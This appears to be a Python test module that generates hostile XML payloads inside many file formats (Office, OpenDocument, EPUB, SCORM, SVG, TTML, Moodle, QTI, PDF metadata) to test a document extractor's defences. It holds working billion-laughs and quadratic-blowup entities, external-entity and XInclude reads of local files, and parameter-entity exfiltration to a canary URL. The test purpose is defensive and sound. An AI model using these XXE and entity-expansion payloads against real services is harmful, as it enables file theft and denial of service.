"""Entities, external and exploding, and XML that is deep, wide or endless, in every format that is made of XML."""

from collections.abc import Callable

from tests.faults.hostile.attack import PARSERS, XML, Attack, Canary
from tests.faults.hostile.packages import HEAD, docx, epub, geogebra, odt, pptx, scorm, xlsx, zipped

_LEVELS = 30


def _laughs(_: Canary, root: str) -> str:
    entities = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, _LEVELS))
    return f"<!DOCTYPE {root} [<!ENTITY l0 'ha'>{entities}]>", f"&l{_LEVELS - 1};"


def _quadratic(_: Canary, root: str) -> tuple[str, str]:
    return f"<!DOCTYPE {root} [<!ENTITY a '{'x' * 100_000}'>]>", "&a;" * 50_000


def _file(canary: Canary, root: str) -> tuple[str, str]:
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "file://{canary.secret}">]>', "&x;"


def _address(canary: Canary, root: str) -> tuple[str, str]:
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{canary.url}/entity">]>', "&x;"


def _definition(canary: Canary, root: str) -> tuple[str, str]:
    return f'<!DOCTYPE {root} SYSTEM "{canary.url}/definition.dtd">', "x"


def _parameter(canary: Canary, root: str) -> tuple[str, str]:
    return (
        f'<!DOCTYPE {root} [<!ENTITY % f SYSTEM "file://{canary.secret}"><!ENTITY % d SYSTEM "{canary.url}/d"> %d; %f;]>',
        "x",
    )


def _recursion(_: Canary, root: str) -> tuple[str, str]:
    return f'<!DOCTYPE {root} [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"


def _inclusion(canary: Canary, _: str) -> tuple[str, str]:
    return "", f'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{canary.secret}" parse="text"/>'


def _style(canary: Canary, _: str) -> tuple[str, str]:
    return f'<?xml-stylesheet type="text/xsl" href="{canary.url}/style.xsl"?>', "x"


_ENTITIES: dict[str, Callable[[Canary, str], tuple[str, str]]] = {
    "laughs": _laughs,
    "quadratic": _quadratic,
    "file": _file,
    "address": _address,
    "definition": _definition,
    "parameter": _parameter,
    "recursion": _recursion,
    "inclusion": _inclusion,
    "style": _style,
}

_DEEP: dict[str, tuple[Callable[[], str], bool]] = {
    "deep": (lambda: "<a>" * 500_000 + "</a>" * 500_000, False),
    "never closed": (lambda: "<a>" * 2_000_000, False),
    "wide": (lambda: "<a/>" * 3_000_000, True),
    "attributes": (lambda: "<a " + " ".join(f'a{n}="x"' for n in range(300_000)) + "/>", False),
    "a long name": (lambda: f"<{'a' * 20_000_000}/>", False),
    "a long text": (lambda: "x" * 60_000_000, True),
    "spaces of names": (lambda: "".join(f'<a xmlns:n{n}="u{n}">' for n in range(30_000)) + "</a>" * 30_000, False),
}


def _part(xml: bytes, prolog: str, inside: str, mark: bytes) -> bytes:
    """A part with a document type before its root and something inside, at a word that stands in it."""
    text = xml.replace(HEAD.encode(), HEAD.encode() + prolog.encode(), 1)
    return text.replace(mark, inside.encode(), 1)


def _packed(make: Callable[[], dict[str, bytes]], member: str, mark: bytes) -> Callable[[str, str], bytes]:
    def build(prolog: str, inside: str) -> bytes:
        members = make()
        return zipped({**members, member: _part(members[member], prolog, inside, mark)})

    return build


def _svg(prolog: str, inside: str) -> bytes:
    return f'{HEAD}{prolog}<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>{inside}</text></svg>'.encode()


def _ttml(prolog: str, inside: str) -> bytes:
    cue = f'<p begin="0s" end="2s">Phụ đề {inside}</p>'
    return f'{HEAD}{prolog}<tt xmlns="http://www.w3.org/ns/ttml"><body><div>{cue}</div></body></tt>'.encode()


def _bank(prolog: str, inside: str) -> bytes:
    text = f"<questiontext><text>Câu hỏi {inside}</text></questiontext>"
    return f'{HEAD}{prolog}<quiz><question type="essay">{text}</question></quiz>'.encode()


def _item(prolog: str, inside: str) -> bytes:
    return f"{HEAD}{prolog}<assessmentItem><itemBody><p>Câu hỏi {inside}</p></itemBody></assessmentItem>".encode()


def _xmp(prolog: str, inside: str) -> bytes:
    """A PDF whose metadata is that XML."""
    packet = (
        f"{prolog}<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'>"
        f"<rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title>{inside}</dc:title>"
        "</rdf:Description></rdf:RDF></x:xmpmeta>"
    ).encode()
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Metadata 4 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj\n"
        + f"4 0 obj<</Type/Metadata/Subtype/XML/Length {len(packet)}>>stream\n".encode()
        + packet
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n"
    )


_TEXT = "Bài học".encode()
# Extension, extractor, name of the root element, how it is made.
_FORMATS: tuple[tuple[str, str, str, Callable[[str, str], bytes]], ...] = (
    ("docx", "docx", "w:document", _packed(docx, "word/document.xml", _TEXT)),
    ("pptx", "pptx", "p:sld", _packed(pptx, "ppt/slides/slide1.xml", _TEXT)),
    ("xlsx", "xlsx", "worksheet", _packed(xlsx, "xl/worksheets/sheet1.xml", b"1</v>")),
    ("odt", "opendocument", "office:document-content", _packed(odt, "content.xml", _TEXT)),
    ("epub", "epub", "package", _packed(epub, "book.opf", "Sách".encode())),
    ("xhtml.epub", "epub", "html", _packed(epub, "c1.xhtml", "Chương một".encode())),
    ("scorm.zip", "ims_package", "manifest", _packed(scorm, "imsmanifest.xml", "Khoá học".encode())),
    ("ggb", "geogebra", "geogebra", _packed(geogebra, "geogebra.xml", "Hình".encode())),
    ("svg", "svg", "svg", _svg),
    ("ttml", "captions", "tt", _ttml),
    ("moodle.xml", "moodle_xml", "quiz", _bank),
    ("qti.xml", "qti", "assessmentItem", _item),
    ("pdf", "pdf", "x:xmpmeta", _xmp),
)
# The first four cost seconds in a parser that is taken in; the rest is tried where the first reader of a kind is.
_EVERYWHERE = ("laughs", "file", "address")


def _attacks() -> list[Attack]:
    made = []
    for extension, reader, root, build in _FORMATS:
        for what, entity in _ENTITIES.items():
            if what in _EVERYWHERE or extension in ("docx", "svg"):
                made.append(
                    Attack(
                        f"{what}.{extension}", XML, reader,
                        lambda canary, build=build, entity=entity, root=root: build(*entity(canary, root)),
                        absent=("hahahaha",),
                    )
                )  # fmt: skip
        for what, (deep, heavy) in _DEEP.items():
            if what == "deep" or extension in ("docx", "svg"):
                made.append(
                    Attack(
                        f"{what}.{extension}", PARSERS, reader,
                        lambda _, build=build, deep=deep: build("", deep()), heavy=heavy,
                    )
                )  # fmt: skip
    return made


ATTACKS = (
    *_attacks(),
    Attack("laughs in UTF-16.svg", XML, "svg", lambda canary: _svg(*_laughs(canary, "svg")).decode().encode("utf-16")),
    Attack(
        "laughs in UTF-7.xml", XML, "",
        lambda canary: b'<?xml version="1.0" encoding="UTF-7"?>' + _laughs(canary, "r")[0].encode("utf-7") + b"<r/>",
    ),
    Attack("entity of the system.xml", XML, "", lambda canary: f"{HEAD}{_file(canary, 'r')[0]}<r>&x;</r>".encode()),
)  # fmt: skip
